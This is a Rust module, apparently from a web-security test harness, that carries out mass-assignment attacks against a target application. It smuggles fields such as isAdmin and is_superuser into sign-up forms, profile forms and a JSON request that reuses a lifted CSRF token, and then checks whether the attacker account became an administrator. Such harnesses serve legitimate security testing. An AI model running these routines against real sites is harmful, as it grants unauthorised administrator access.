//! `mass-assignment`: a form is sent with a field that it never offered.

use anyhow::Result;
use http::Method;
use serde_json::json;

use super::{Outcome, member};
use crate::{Arena, Person, Target};

/// The names under which applications keep the one bit that matters.
const POWER: [&str; 4] = ["isAdmin", "is_admin", "is_staff", "is_superuser"];

/// Signs up with `isAdmin=true` among the fields.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn admin_by_sign_up(arena: &Arena) -> Result<Outcome> {
    arena.open("/signup/").await?;
    arena.fill_sign_up(Person::ATTACKER).await?;
    smuggle_and_judge(arena).await
}

/// Saves the own profile with `isAdmin=true` among the fields.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn admin_by_profile(arena: &Arena) -> Result<Outcome> {
    arena.enter(Person::ATTACKER).await?;
    arena.open("/profile/").await?;
    arena
        .browser
        .fill_all(&[("first_name", "Mallory"), ("last_name", "Mole")])
        .await?;
    smuggle_and_judge(arena).await
}

async fn smuggle_and_judge(arena: &Arena) -> Result<Outcome> {
    for field in POWER {
        arena.browser.smuggle(field, "true").await?;
    }
    arena.browser.submit().await?;
    let answer = format!(
        "{} was answered with {}",
        arena.browser.url().await?,
        arena.browser.status().await?
    );
    Ok(Outcome::new(
        arena.target.is_admin(Person::ATTACKER.username)?,
        answer,
    ))
}

/// Sends JSON where the page sends a form, with the token in its header.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn admin_by_json(target: &Target) -> Result<Outcome> {
    let mut attacker = member(target, Person::ATTACKER.username).await?;
    let token = attacker
        .open("/profile/")
        .await?
        .field("csrfmiddlewaretoken")
        .unwrap_or_default();
    let origin = attacker.origin();
    let request = attacker
        .request(Method::POST, "/profile/")
        .header("content-type", "application/json")
        .header("origin", &origin)
        .header("referer", format!("{origin}/profile/"))
        .header("x-csrftoken", token);
    let body = json!({
        "first_name": "Mallory", "last_name": "Mole", "email": "",
        "isAdmin": true, "is_staff": true, "is_superuser": true,
    });
    let reply = attacker.send(request, body.to_string().into()).await?;
    Ok(Outcome::new(
        target.is_admin(Person::ATTACKER.username)?,
        format!("answered with {}", reply.status),
    ))
}
